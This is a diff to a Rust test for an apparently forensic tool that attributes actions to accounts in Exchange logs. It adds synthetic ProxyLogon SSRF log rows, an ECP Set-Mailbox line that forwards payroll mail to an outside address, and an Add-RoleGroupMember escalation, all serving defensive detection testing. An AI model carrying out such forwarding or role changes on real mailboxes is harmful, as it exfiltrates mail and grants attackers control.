@@ -48,6 +48,31 @@ fn event(channel: &str, provider: &str, id: u32, time: &str, rec: u32, data: &st
     )
 }
 
+/// An HttpProxy row of the ProxyLogon SSRF seen in the BackEndCookie column, whose request was
+/// anchored to a mailbox (`Smtp~…`): the mailbox the attacker acted as.
+fn ssrf_row_anchored(anchor: &str) -> String {
+    PROXY_FIELDS
+        .split(',')
+        .map(|name| match name {
+            "DateTime" => "2021-03-03T04:30:00.000Z",
+            "MajorVersion" => "15",
+            "MinorVersion" => "1",
+            "BuildVersion" => "2176",
+            "RevisionVersion" => "2",
+            "Protocol" => "Ews",
+            "UrlStem" => "/ews/exchange.asmx",
+            "AnchorMailbox" => anchor,
+            "BackEndCookie" => "Server~EXCH01.contoso.local/ews/exchange.asmx?a=~1942062522",
+            "ClientIpAddress" => "203.0.113.45",
+            "HttpStatus" => "200",
+            "Method" => "POST",
+            "UserAgent" => "python-requests/2.25.1",
+            _ => "",
+        })
+        .collect::<Vec<_>>()
+        .join(",")
+}
+
 fn find<'a>(accounts: &'a [Account], name: &str) -> &'a Account {
     accounts
         .iter()
@@ -91,6 +116,18 @@ fn every_source_names_its_accounts() {
             ),
         ),
     );
+    write(
+        root,
+        &format!("{EXI}/Logging/HttpProxy/Ews/HttpProxy_2021030304-1.LOG"),
+        &httpproxy(&[ssrf_row_anchored("Smtp~it-admin@contoso.com")]),
+    );
+    write(
+        root,
+        &format!("{EXI}/Logging/ECP/Server/ECPServer20210303-1.LOG"),
+        &ecp(&[
+            "2021-03-03T05:00:00.000Z,EXCH01,ECP.Request,\"S:TIME=120;S:CMD=Set-Mailbox.Identity='payroll@contoso.com'.ForwardingSmtpAddress='smtp:drop@mailbox.example';S:RS=0\"",
+        ]),
+    );
     let mx = |t: &str, rec: u32, cmd: &str, params: &str| {
         event(
             "MSExchange Management",
@@ -105,6 +142,12 @@ fn every_source_names_its_accounts() {
         event("Security", "Microsoft-Windows-Security-Auditing", id, t, rec, data)
     };
     let lines = [
+        mx(
+            "2021-08-21T10:06:30Z",
+            8,
+            "Add-RoleGroupMember",
+            r#"-Identity "Organization Management" -Member "svc-backup""#,
+        ),
         mx(
             "2021-08-21T10:05:00Z",
             1,
@@ -174,6 +217,12 @@ fn every_source_names_its_accounts() {
     assert!(find(accounts, "S-1-5-21-1-2-3-1009").actions.contains(&A::AddedToGroup));
     assert_eq!(find(accounts, "S-1-5-21-1-2-3-1009").kind, "sid");
     assert!(find(accounts, "helpdesk2").actions.contains(&A::PasswordReset));
+    assert!(
+        find(accounts, "it-admin@contoso.com").actions.contains(&A::UsedByAttacker),
+        "HttpProxy AnchorMailbox on an exploit line"
+    );
+    assert!(find(accounts, "payroll@contoso.com").actions.contains(&A::ForwardingSet), "the ECP log's Set-Mailbox");
+    assert!(find(accounts, "svc-backup").actions.contains(&A::AddedToGroup), "-Member of Add-RoleGroupMember");
     let all = find(accounts, ALL_SESSIONS);
     assert_eq!((all.kind.as_str(), all.actions.as_slice()), ("all_sessions", &[A::CredentialsExposed][..]));
     assert!(
